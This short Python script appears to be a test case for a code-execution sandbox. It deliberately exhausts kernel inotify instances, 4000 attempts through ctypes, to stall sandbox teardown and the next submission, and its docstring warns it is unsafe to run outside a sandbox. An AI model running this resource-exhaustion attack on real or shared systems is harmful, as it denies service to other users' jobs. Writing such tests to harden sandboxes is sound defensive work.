"""Goal: hold up the end of the sandbox, and the next submission, with thousands of inotify instances.

Without a sandbox: unsafe
"""

import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)


def attack():
    instances = 0
    for _ in range(4000):
        if libc.inotify_init1(0) < 0 and libc.inotify_init() < 0:
            raise RuntimeError(f"stopped by: {os.strerror(ctypes.get_errno())}, after {instances}")
        instances += 1


attack()
